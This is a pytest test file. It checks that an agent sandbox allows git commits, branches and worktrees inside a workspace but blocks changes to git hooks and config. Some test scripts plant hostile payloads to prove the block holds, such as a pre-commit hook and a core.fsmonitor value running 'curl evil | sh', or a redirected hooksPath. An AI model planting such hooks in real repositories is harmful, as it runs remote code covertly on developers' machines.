"""git keeps working inside the workspace, while its hooks and config stay out of reach."""

from __future__ import annotations

import os
import subprocess

import pytest

from tests.conftest import Layout, run_script

pytestmark = pytest.mark.usefixtures("sandbox_available")

GIT_ENV = {
    "GIT_AUTHOR_NAME": "Agent",
    "GIT_AUTHOR_EMAIL": "agent@example.invalid",
    "GIT_COMMITTER_NAME": "Agent",
    "GIT_COMMITTER_EMAIL": "agent@example.invalid",
}


def git(layout: Layout, *args: str, cwd: str | None = None) -> str:
    done = subprocess.run(
        ["git", *args],
        cwd=cwd or layout.workspace,
        env={**layout.env, **GIT_ENV},
        capture_output=True,
        text=True,
        check=True,
    )
    return done.stdout


def snapshot(directory: str) -> dict[str, bytes]:
    found = {}
    for dirpath, _dirs, files in os.walk(directory):
        for name in files:
            path = os.path.join(dirpath, name)
            with open(path, "rb") as f:
                found[path] = f.read()
    return found


@pytest.fixture
def repo(layout: Layout) -> Layout:
    git(layout, "init", "-q", "-b", "main")
    with open(f"{layout.workspace}/README", "w") as f:
        f.write("hello\n")
    git(layout, "add", "README")
    git(layout, "commit", "-q", "-m", "initial")
    return layout


def test_add_commit_branch_and_worktree_work_inside(repo: Layout) -> None:
    script = """
    set -e
    echo change >> README
    git add README
    git commit -q -m 'from the sandbox'
    git switch -q -c feature
    echo new > new.txt && git add new.txt && git commit -q -m 'feature work'
    git worktree add -q trees/extra -b extra
    echo more > trees/extra/more.txt && git -C trees/extra add more.txt
    git -C trees/extra commit -q -m "worktree inside"
    """
    result = run_script(repo, script, sandboxed=True, env=GIT_ENV)
    assert result.returncode == 0, result.stderr
    log = git(repo, "log", "--all", "--format=%s")
    assert "from the sandbox" in log
    assert "feature work" in log
    assert "worktree inside" in log
    assert "feature" in git(repo, "branch", "--list")


@pytest.mark.parametrize("sandboxed", [False, True], ids=["unsandboxed", "sandboxed"])
def test_hooks_and_config_cannot_be_planted(repo: Layout, sandboxed: bool) -> None:
    hooks = f"{repo.workspace}/.git/hooks"
    before = snapshot(hooks)
    with open(f"{repo.workspace}/.git/config", "rb") as f:
        config_before = f.read()
    script = """
    printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
    git config core.fsmonitor 'curl evil | sh'
    git config core.hooksPath /var/tmp
    """
    run_script(repo, script, sandboxed=sandboxed, env=GIT_ENV)
    with open(f"{repo.workspace}/.git/config", "rb") as f:
        config_intact = f.read() == config_before
    hooks_intact = snapshot(hooks) == before
    assert (config_intact and hooks_intact) == sandboxed


def test_missing_hooks_directory_cannot_be_created(repo: Layout) -> None:
    hooks = f"{repo.workspace}/.git/hooks"
    subprocess.run(["rm", "-rf", hooks], check=True)
    result = run_script(
        repo, "mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit", sandboxed=True
    )
    assert result.returncode != 0
    assert not os.path.exists(hooks)


def test_worktree_workspace_commits_but_cannot_touch_common_hooks(repo: Layout) -> None:
    wt = f"{repo.root}/wt"
    git(repo, "worktree", "add", "-q", "-b", "side", wt)
    main_hooks = snapshot(f"{repo.workspace}/.git/hooks")
    worktree = repo._replace(workspace=wt)
    script = """
    echo side > side.txt && git add side.txt && git commit -q -m 'worktree commit' || exit 10
    echo evil > "$(git rev-parse --git-common-dir)/hooks/post-checkout"
    true
    """
    result = run_script(worktree, script, sandboxed=True, env=GIT_ENV)
    assert result.returncode == 0, result.stderr
    assert "worktree commit" in git(repo, "log", "side", "--format=%s")
    assert snapshot(f"{repo.workspace}/.git/hooks") == main_hooks
